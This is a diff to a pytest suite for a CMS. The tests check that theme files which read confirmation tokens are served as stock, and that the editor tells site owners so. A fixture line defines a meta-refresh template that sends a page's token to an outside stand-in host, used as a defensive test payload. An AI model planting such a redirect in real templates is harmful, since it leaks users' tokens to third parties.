@@ -2,12 +2,15 @@
 
 import pytest
 
+from cms.answers import HAVE_A_TOKEN
 from nations.submissions import confirming
 from tenants import signing
 from tenants.context import in_nation
 from tests.conftest import NOON
 from tests.support.leaving import joined, link_for, press, site
+from tests.support.panel import seated
 from themes.models import ThemeVersion
+from themes.stock_themes import stock_theme
 
 AWAY = '<meta http-equiv="refresh" content="0;url=http://elsewhere.example/?t={{ %s.token }}">'
 TEMPLATES = {
@@ -18,6 +21,11 @@ TEMPLATES = {
     "confirm_link": AWAY % "confirm",
     "confirm_press": AWAY % "confirm",
 }
+
+
+@pytest.fixture
+def owner(visited):
+    return seated(visited)
 
 
 @pytest.fixture
@@ -96,6 +104,28 @@ class TestAPageThatHoldsAToken:
         html = site().get(link).content.decode()
 
         assert html.partition("</head>")[0] == as_before.partition("</head>")[0]
+
+
+class TestTheEditorOfItsFile:
+    @pytest.mark.parametrize("path", sorted(HAVE_A_TOKEN))
+    def test_says_that_visitors_see_it_as_it_came(self, owner, path):
+        html = owner.get(f"/website/code/{path}/").content.decode()
+
+        assert "visitors see it as the theme came" in html
+
+    def test_says_nothing_of_it_for_another(self, owner):
+        html = owner.get("/website/code/layout/").content.decode()
+
+        assert "visitors see it as the theme came" not in html
+
+    def test_is_that_of_every_file_that_reads_a_token(self):
+        reads = {
+            path
+            for path, body in stock_theme("doorstep").files.items()
+            if ".token" in body
+        }
+
+        assert reads == HAVE_A_TOKEN
 
 
 class TestAPageWithoutAToken:
